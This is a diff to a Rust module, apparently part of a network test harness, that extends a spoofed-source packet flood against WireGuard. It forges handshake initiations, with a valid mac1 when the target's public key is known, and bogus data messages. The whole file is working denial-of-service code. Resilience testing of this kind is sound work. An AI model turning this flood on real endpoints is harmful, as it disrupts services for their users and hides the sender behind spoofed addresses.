@@ -1,4 +1,4 @@
-//! A flood of forged handshake initiations.
+//! A flood of forged WireGuard messages.
 
 use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
 use std::os::fd::AsRawFd as _;
@@ -19,18 +19,32 @@ use crate::topology::Host;
 const INITIATION: usize = 148;
 /// Bytes in front of mac1.
 const SIGNED: usize = 116;
-/// Initiations made in advance; they go round.
+/// Bytes of a forged data message: one of a small packet.
+const DATA: usize = 96;
+/// Messages made in advance; they go round.
 const FORGED: usize = 4096;
 /// Datagrams of one call.
 const BATCH: usize = 64;
+
+/// What the messages of a flood claim to be.
+#[derive(Clone, Debug)]
+pub enum Forgery {
+    /// Handshake initiations.
+    Initiations {
+        /// The target's public key in base64, if the attacker knows it: then mac1 is right.
+        key: Option<String>,
+    },
+    /// Data of sessions that nobody has.
+    Data,
+}
 
 /// What a flood is made of.
 #[derive(Clone, Debug)]
 pub struct Flood {
     /// The target.
     pub to: SocketAddrV4,
-    /// The target's public key in base64, if the attacker knows it: then mac1 is right.
-    pub key: Option<String>,
+    /// Its messages.
+    pub forgery: Forgery,
     /// How many source addresses, one after the other from this one. The host must have a route of
     /// type `local` for them.
     pub sources: (Ipv4Addr, u32),
@@ -84,22 +98,25 @@ impl Host {
     }
 }
 
-/// Noise that looks like an initiation, with a right mac1 if the key is known.
-fn forge(random: &mut u64, mac1_key: Option<&[u8]>) -> anyhow::Result<[u8; INITIATION]> {
-    let mut message = [0; INITIATION];
+/// Noise that looks like a message.
+fn forge(random: &mut u64, kind: u8, length: usize) -> Vec<u8> {
+    let mut message = vec![0; length];
     for byte in &mut message[4..] {
         *random ^= *random << 13;
         *random ^= *random >> 7;
         *random ^= *random << 17;
         *byte = (*random >> 32) as u8;
     }
-    message[0] = 1;
-    if let Some(key) = mac1_key {
-        let mut mac = <Blake2sMac<U16> as Mac>::new_from_slice(key)?;
-        Update::update(&mut mac, &message[..SIGNED]);
-        message[SIGNED..SIGNED + 16].copy_from_slice(&mac.finalize_fixed());
-    }
-    Ok(message)
+    message[0] = kind;
+    message
+}
+
+/// Signs an initiation as one who knows the target's key.
+fn sign(initiation: &mut [u8], mac1_key: &[u8]) -> anyhow::Result<()> {
+    let mut mac = <Blake2sMac<U16> as Mac>::new_from_slice(mac1_key)?;
+    Update::update(&mut mac, &initiation[..SIGNED]);
+    initiation[SIGNED..SIGNED + 16].copy_from_slice(&mac.finalize_fixed());
+    Ok(())
 }
 
 /// Control message that names the source address.
@@ -114,20 +131,24 @@ struct Source {
 
 struct Messages {
     to: libc::sockaddr_in,
-    messages: Vec<[u8; INITIATION]>,
+    messages: Vec<Vec<u8>>,
     sources: Vec<Source>,
 }
 
 impl Messages {
     fn forge(flood: &Flood) -> anyhow::Result<Self> {
-        let key = match &flood.key {
-            Some(key) => {
+        let key = match &flood.forgery {
+            Forgery::Initiations { key: Some(key) } => {
                 let key = base64::engine::general_purpose::STANDARD.decode(key)?;
                 ensure!(key.len() == 32, "a public key has 32 bytes");
                 let hash = Blake2s256::new_with_prefix(b"mac1----");
                 Some(Digest::finalize(Digest::chain_update(hash, key)))
             }
-            None => None,
+            _ => None,
+        };
+        let (kind, length) = match flood.forgery {
+            Forgery::Initiations { .. } => (1, INITIATION),
+            Forgery::Data => (4, DATA),
         };
         let mut random = 0x9e37_79b9_7f4a_7c15;
         let (first, count) = flood.sources;
@@ -159,9 +180,14 @@ impl Messages {
                 sin_zero: [0; 8],
             },
             messages: (0..FORGED)
-                .map(|_| forge(&mut random, key.as_deref()))
+                .map(|_| {
+                    let mut message = forge(&mut random, kind, length);
+                    key.as_deref()
+                        .map_or(Ok(()), |key| sign(&mut message, key))?;
+                    anyhow::Ok(message)
+                })
                 .collect::<Result<_, _>>()
-                .context("forge initiations")?,
+                .context("forge messages")?,
             sources: (0..FORGED).map(source).collect(),
         })
     }
